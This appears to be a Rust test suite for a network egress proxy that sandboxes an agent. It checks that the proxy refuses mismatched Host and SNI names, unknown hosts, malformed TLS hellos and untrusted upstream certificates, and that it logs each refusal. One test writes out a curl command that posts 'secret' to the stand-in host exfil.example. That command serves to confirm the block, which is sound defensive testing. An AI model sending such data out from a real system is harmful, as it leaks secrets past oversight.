//! Names and certificates: who the agent says it wants, who it asks, and who answers.

use enforcer_tests::daemon::Setup;
use enforcer_tests::probe::{Exchange, Handshake};

use crate::stage::{OUTSIDE, PATIENCE, POLICY, Stage};

const PLACE: &str = "203.0.113.9:443";

#[test]
fn a_host_that_is_not_the_name_of_the_handshake_is_refused() {
    let Some(stage) = Stage::new() else { return };
    for flag in ["--http1.1", "--http2"] {
        // Both names are allowed; only their disagreement is not.
        let other = ["-H", "Host: good.allowed.example"];
        let url = "https://api.openai.com/test/echo";
        let answer = stage.curl(&[&[flag, url][..], &other].concat());
        assert!([403, 421].contains(&answer.status), "{answer:?}");
        assert_eq!(
            answer.json()["error"]["code"],
            "enforcer_denied",
            "{answer:?}"
        );
    }
    stage.recorded("exchange_denied", |entry| entry["cause"].is_string());
    stage.assert_nothing_got_out();
}

#[test]
fn a_name_no_rule_knows_is_refused() {
    let Some(stage) = Stage::new() else { return };
    let resolve = format!("exfil.example:443:{OUTSIDE}");
    let answer = stage.curl(&[
        "--resolve",
        &resolve,
        "-d",
        "secret",
        "https://exfil.example/",
    ]);
    assert!(answer.exit != 0 || answer.status == 403, "{answer:?}");
    let is_refusal = |entry: &serde_json::Value| {
        let event = entry["event"].as_str().unwrap_or_default();
        event == "flow_refused" || event == "exchange_denied"
    };
    let found = stage.ledger().wait(crate::stage::PATIENCE, is_refusal);
    found.expect("a refusal in the ledger");
    stage.assert_nothing_got_out();
}

#[test]
fn the_name_decides_where_it_goes_and_not_the_address() {
    let Some(stage) = Stage::new() else { return };
    let resolve = format!("api.openai.com:443:{OUTSIDE}");
    let answer = stage.curl(&["--resolve", &resolve, "https://api.openai.com/test/echo"]);
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(stage.arrived(), ["GET /test/echo"]);
    assert_eq!(stage.leaked(), []);
}

#[test]
fn a_handshake_without_a_name_is_refused() {
    let Some(stage) = Stage::new() else { return };
    let door = [
        "tls",
        PLACE,
        "--get",
        "/test/echo",
        "--host",
        "api.openai.com",
    ];
    let shaken: Handshake = stage.agent.probe(&door).expect("a probe");
    assert!(!shaken.answer.contains("200 OK"), "{shaken:?}");
    let is_refusal = |entry: &serde_json::Value| {
        let event = entry["event"].as_str().unwrap_or_default();
        event == "flow_refused" || event == "exchange_denied"
    };
    let found = stage.ledger().wait(crate::stage::PATIENCE, is_refusal);
    found.expect("a refusal in the ledger");
    stage.assert_nothing_got_out();
}

#[test]
fn garbage_instead_of_a_hello_is_refused() {
    let Some(stage) = Stage::new() else { return };
    let garbage = [
        r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\xff\xff garbage",
        r"\x16\x03\x01\xff\xff",
        r"\x00\x00\x00\x00",
        r"SSH-2.0-OpenSSH_9.9\r\n",
        r"\x80\x2e\x01\x00\x02",
    ];
    for text in garbage {
        let exchange: Exchange = stage
            .agent
            .probe(&["raw", PLACE, "--text", text, "--half-close"])
            .expect("a probe");
        assert_ne!(exchange.ending, "timeout", "{text}: {exchange:?}");
    }
    stage.assert_flows_refused(garbage.len());
    stage.assert_nothing_got_out();
}

#[test]
fn an_upstream_that_cannot_prove_who_it_is_gets_no_request() {
    let Some(stage) = Stage::new() else { return };
    for name in ["expired", "untrusted", "wrong"] {
        for flag in ["--http1.1", "--http2"] {
            let url = format!("https://{name}.allowed.example/test/upload");
            let answer = stage.curl(&[flag, "-d", "secret", &url]);
            assert_eq!(answer.status, 502, "{name}: {answer:?}");
            let told = &answer.json()["error"];
            assert!(told["message"].is_string(), "{name}: {answer:?}");
        }
        let host = format!("{name}.allowed.example");
        let granted = stage.recorded("exchange_granted", |entry| entry["host"] == host);
        stage.recorded("exchange_aborted", |entry| {
            entry["exchange"] == granted["exchange"] && entry["side"] == "upstream"
        });
    }
    stage.assert_nothing_got_out();
}

#[test]
fn an_upstream_that_is_down_is_a_bad_gateway() {
    let Some(stage) = Stage::new() else { return };
    let answer = stage.curl(&["https://down.allowed.example/"]);
    assert_eq!(answer.status, 502, "{answer:?}");
    stage.recorded("exchange_aborted", |entry| entry["side"] == "upstream");
    stage.assert_nothing_got_out();
}

#[test]
fn an_upstream_that_says_nothing_is_given_up() {
    let short = |setup: Setup| setup.upstream("connect_timeout: 500ms");
    let Some(stage) = Stage::with(POLICY, short) else {
        return;
    };
    let answer = stage.curl(&["https://silent.allowed.example/"]);
    assert!([502, 504].contains(&answer.status), "{answer:?}");
    stage.recorded("exchange_aborted", |entry| entry["side"] == "upstream");
    assert_eq!(stage.arrived(), Vec::<String>::new());
}

#[test]
fn the_agents_handshake_ends_when_the_agent_does_not_believe_us() {
    let Some(stage) = Stage::new() else { return };
    let public = ["--cacert", "/etc/ssl/certs/ca-certificates.crt"];
    let url = "https://api.openai.com/test/echo";
    let answer = stage.curl(&[&[url][..], &public].concat());
    assert_eq!(answer.exit, 60, "{answer:?}");
    stage.assert_nothing_got_out();
}

#[test]
fn a_ca_for_some_names_opens_no_others() {
    const RULES: &str = r#"
version: 1
name: test
rules:
  - id: all
    effect: allow
    match:
      host: ["*.allowed.example", api.openai.com]
  - id: sealed
    effect: allow
    inspect: false
    match:
      host: old.allowed.example
"#;
    let limited = |setup: Setup| setup.ca("permitted_names: [good.allowed.example]");
    let Some(stage) = Stage::with(RULES, limited) else {
        return;
    };
    let inside = stage.curl(&["https://good.allowed.example/test/echo"]);
    assert_eq!(inside.status, 200, "{inside:?}");
    let outside = stage.curl(&["https://api.openai.com/test/echo"]);
    assert_eq!(outside.status, 0, "{outside:?}");
    let aborted = stage.recorded("flow_aborted", |entry| {
        entry["cause"] == "name_not_permitted"
    });
    let detail = aborted["detail"].as_str().unwrap();
    assert!(detail.contains("`api.openai.com`"), "{aborted}");
    // What is forwarded unopened needs no certificate of ours; it is met by the far side's own, and counted.
    let root = stage
        .sandbox
        .write("far.pem", stage.upstream.ca_pem())
        .unwrap();
    let root = root.display().to_string();
    let unopened = stage.curl(&["--cacert", &root, "https://old.allowed.example/test/echo"]);
    assert_eq!(unopened.status, 200, "{unopened:?}");
    let granted = stage.recorded("exchange_granted", |entry| entry["protocol"] == "tls");
    assert_eq!(granted["host"], "old.allowed.example");
    assert_eq!(granted["rule"], "test/sealed");
    // A client that leaves bytes unread resets the connection, and that is an abort.
    let ended = |entry: &serde_json::Value| {
        entry["exchange"] == granted["exchange"] && entry["event"] != "exchange_granted"
    };
    let closed = stage.ledger().wait(PATIENCE, ended).unwrap();
    for way in ["bytes_up", "bytes_down"] {
        assert!(closed[way].as_u64().unwrap() > 200, "{closed}");
    }
    let status = stage.daemon.cli(&["status"]).unwrap().stdout;
    assert!(
        status.contains("for good.allowed.example, enforcer.internal alone"),
        "{status}"
    );
}

#[test]
fn a_program_that_does_not_believe_us_is_told_of_by_name() {
    let Some(stage) = Stage::new() else { return };
    let public = ["--cacert", "/etc/ssl/certs/ca-certificates.crt"];
    let answer = stage.curl(&[&["https://api.openai.com/"][..], &public].concat());
    assert_eq!(answer.exit, 60, "{answer:?}");
    let aborted = stage.recorded("flow_aborted", |entry| entry["cause"] == "ca_not_trusted");
    let detail = aborted["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("api.openai.com: the agent does not accept"),
        "{aborted}"
    );
    let told = stage.daemon.cli(&["status"]).unwrap().stdout;
    assert!(
        told.contains("curl does not trust the CA: 1 handshakes for api.openai.com"),
        "{told}"
    );
}
